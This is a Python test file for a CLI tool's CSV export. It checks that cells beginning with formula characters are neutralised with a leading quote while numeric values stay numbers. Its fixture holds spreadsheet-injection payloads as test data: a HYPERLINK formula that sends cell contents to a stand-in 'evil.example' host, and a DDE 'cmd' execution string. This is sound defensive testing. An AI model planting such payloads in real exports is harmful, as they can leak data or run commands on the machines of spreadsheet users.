"""`faascope export --format csv` never hands a spreadsheet a formula: text cells that start with
=, +, -, @, a tab or a carriage return get a leading single quote (OWASP, "CSV Injection");
numbers, negative ones included, stay numbers (issue #29: a function's error message
``=HYPERLINK(...)`` was exported as it was). Records end in CRLF (RFC 4180), so a carriage
return inside a cell is quoted instead of breaking the row."""
from __future__ import annotations

import csv
import io
import shutil
import sqlite3
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from faascope.cli import cli
from faascope.store.spreadsheet import FORMULA_STARTS, formula_safe, neutralise

DATA = Path(__file__).resolve().parent / "data"

#: (invocation id, error_message written into the file, what the CSV cell must read)
TEXT_CELLS = [
    (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    (2, "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    (3, "-2+3", "'-2+3"),
    (4, "@SUM(A1:A9)", "'@SUM(A1:A9)"),
    (5, "\t=1+1", "'\t=1+1"),
    (6, "\r=1+1", "'\r=1+1"),
    (7, "-3", "-3"),              # text that is just a number: no formula can hide in it
    (8, "a=b, fine", "a=b, fine"),  # only the first character matters
]


@pytest.fixture
def results(tmp_path) -> Path:
    db = tmp_path / "r.db"
    shutil.copyfile(DATA / "legacy-sequential-v1.db", db)
    c = sqlite3.connect(db)
    with c:
        for iid, text, _ in TEXT_CELLS:
            c.execute("UPDATE invocations SET error_message=? WHERE id=?", (text, iid))
        # a negative number in a numeric column (a clock step can make a latency negative)
        c.execute("UPDATE invocations SET client_latency_s=-0.25 WHERE id=9")
    c.close()
    return db


def _rows(text: str) -> dict[int, dict[str, str]]:
    return {int(r["invocation_id"]): r for r in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.parametrize("to_stdout", [False, True])
def test_export_csv_neutralises_formulas_and_keeps_numbers(tmp_path, results, to_stdout):
    out = tmp_path / "x.csv"
    r = CliRunner().invoke(cli, ["export", str(results), "--format", "csv",
                                 "--out", "-" if to_stdout else str(out)])
    assert r.exit_code == 0, (r.output, r.exception)
    text = r.stdout if to_stdout else out.read_bytes().decode()
    rows = _rows(text)
    # a carriage return inside a cell is quoted (RFC 4180 CRLF records), never a row break
    # that would start a new row with "=1+1"
    assert sorted(rows) == list(range(1, 17)), sorted(rows)
    for iid, _, want in TEXT_CELLS:
        assert rows[iid]["error_message"] == want, iid
    assert rows[9]["client_latency_seconds"] == "-0.25"
    # no cell of the file starts a formula except as the quoted text above
    for row in rows.values():
        for col, v in row.items():
            assert not v.startswith(FORMULA_STARTS) or v == "-0.25" or v == "-3", (col, v)
    # read back as data, the numbers are numbers
    df = pd.read_csv(io.StringIO(text))
    assert df.loc[df.invocation_id == 9, "client_latency_seconds"].item() == -0.25
    assert pd.api.types.is_float_dtype(df["client_latency_seconds"])
    assert pd.api.types.is_integer_dtype(df["memory"])


def test_formula_safe_leaves_numeric_columns_and_names():
    df = pd.DataFrame({"x": [-1.5, 2.0], "n": [-3, 4], "=bad": ["=1", None], "s": ["-x", "ok"]})
    got = formula_safe(df)
    assert got["x"].tolist() == [-1.5, 2.0] and got["x"].dtype == df["x"].dtype
    assert got["n"].tolist() == [-3, 4] and got["n"].dtype == df["n"].dtype
    assert list(got.columns) == ["x", "n", "'=bad", "s"]
    assert got["'=bad"].tolist()[0] == "'=1" and got["'=bad"].isna().tolist()[1]
    assert got["s"].tolist() == ["'-x", "ok"]
    assert df["s"].tolist() == ["-x", "ok"]  # a copy: the caller's frame is unchanged
    assert [neutralise(v) for v in ("+1e5", "-.5", "1-2", "", "-inf")] == \
        ["+1e5", "-.5", "1-2", "", "'-inf"]
